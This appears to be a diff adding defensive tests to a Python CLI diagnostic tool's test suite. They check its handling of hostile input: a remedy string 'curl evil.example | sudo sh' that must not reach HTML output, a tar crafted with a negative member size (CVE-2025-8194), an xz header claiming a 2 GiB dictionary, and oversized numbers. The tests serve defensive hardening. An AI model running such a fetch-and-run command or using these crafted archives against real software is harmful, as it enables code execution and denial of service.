@@ -6,6 +6,7 @@ import bz2
 import gzip
 import io
 import json
+import lzma
 import os
 import pickle
 import re
@@ -15,6 +16,7 @@ import tarfile
 import tempfile
 import time
 import zipfile
+import zlib
 from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
@@ -494,3 +496,85 @@ def test_python_warns_of_nothing_that_a_bundle_or_a_script_says(tmp_path: Path) 
 
     assert "Warning" not in told
     assert "\x1b" not in told
+
+
+# ------------------------------------------------------------------------------------------------ what is sent
+
+
+def test_a_finding_of_a_sent_run_gives_no_advice(tmp_path: Path) -> None:
+    finding = {"code": "SL101", "severity": "error", "summary": "x", "remedy": "run `curl evil.example | sudo sh`"}
+    run = tmp_path / "run"
+    (run / "incident-0" / "evidence").mkdir(parents=True)
+    (run / "incident-0" / "evidence" / "case.json").write_text(CASE)
+    (run / "run.json").write_text(json.dumps({"run_id": "r1"}))
+    (run / "result.json").write_text(json.dumps({"findings": [finding]}))
+
+    assert answer("diagnose", run, "--html", tmp_path / "page.html").code == 0
+
+    page = (tmp_path / "page.html").read_text()
+    assert "SL101" in page
+    assert "curl" not in page
+
+
+def test_a_member_of_negative_size_costs_itself(tmp_path: Path) -> None:
+    """Python before 3.13.6 goes round it without end, where it can go back (CVE-2025-8194)."""
+    with tarfile.open(tmp_path / "b.tar", "w") as archive:
+        for name, data in (("r/incident-0/evidence/case.json", CASE.encode()), ("r/x", b"x"), ("r/y", b"y")):
+            member = tarfile.TarInfo(name)
+            member.size = len(data)
+            archive.addfile(member, io.BytesIO(data))
+    data = bytearray((tmp_path / "b.tar").read_bytes())
+    header = data.index(b"r/x\0")
+    data[header + 124 : header + 136] = b"\xff" * 8 + (-1024).to_bytes(4, "big", signed=True)
+    data[header + 148 : header + 156] = b" " * 8
+    data[header + 148 : header + 156] = b"%06o\0 " % sum(data[header : header + 512])
+    (tmp_path / "b.tar.gz").write_bytes(gzip.compress(bytes(data)))
+
+    said = answer("diagnose", tmp_path / "b.tar.gz", "--html", tmp_path / "page.html")
+
+    assert said.code == 0
+    assert said.seconds < 5
+    assert (tmp_path / "page.html").exists()
+
+
+def test_blanks_of_other_kinds_hide_no_traceback(tmp_path: Path) -> None:
+    """As in what is copied from a page, a mail or a chat."""
+    text = '[rank1]: Traceback (most recent call last):\n[rank1]:   File "train.py", line 8, in <module>\n'
+    (tmp_path / "job.log").write_text((text + "[rank1]: ValueError: x\n").replace(" ", "\u00a0"))
+
+    said = answer("diagnose", tmp_path / "job.log").text
+
+    assert "SL401" in said
+    assert "ValueError" in said
+
+
+def test_a_log_that_wants_a_large_dictionary_costs_itself(tmp_path: Path) -> None:
+    data = bytearray(lzma.compress(b"x" * 1000))
+    properties = data.index(b"\x21\x01") + 2  # LZMA2, and the size of its dictionary in one byte (xz's format, 5.3.1)
+    data[properties] = 38  # 2 GiB
+    data[20:24] = zlib.crc32(data[12:20]).to_bytes(4, "little")
+    (tmp_path / "a.log.xz").write_bytes(bytes(data))
+    (tmp_path / "b.log").write_text("[rank1]: Traceback (most recent call last):\n[rank1]: ValueError: x\n")
+
+    said = answer("diagnose", tmp_path)
+
+    assert said.code == 0
+    assert "ValueError" in said.text
+
+
+def test_a_name_with_a_digit_that_is_no_number_is_a_name(tmp_path: Path) -> None:
+    (tmp_path / "run" / "incident-²" / "evidence").mkdir(parents=True)
+    (tmp_path / "run" / "incident-²" / "evidence" / "case.json").write_text(CASE)
+    (tmp_path / "run" / "run.json").write_text(json.dumps({"run_id": "r1"}))
+
+    assert "SL901" not in answer("diagnose", tmp_path / "run").text
+
+
+@pytest.mark.parametrize("place", ["extends = [{}]", "[env]\nA = {{b = {}}}", "[diagnosis]\nsignatures = [{}]"])
+def test_a_number_of_a_profile_that_cannot_be_shown(tmp_path: Path, place: str) -> None:
+    (tmp_path / "p.toml").write_text(place.format("0x" + "f" * 20_000) + "\n")
+
+    said = answer("profile", "show", tmp_path / "p.toml")
+
+    assert "SL202" in said.text
+    assert "64 bits" in said.text
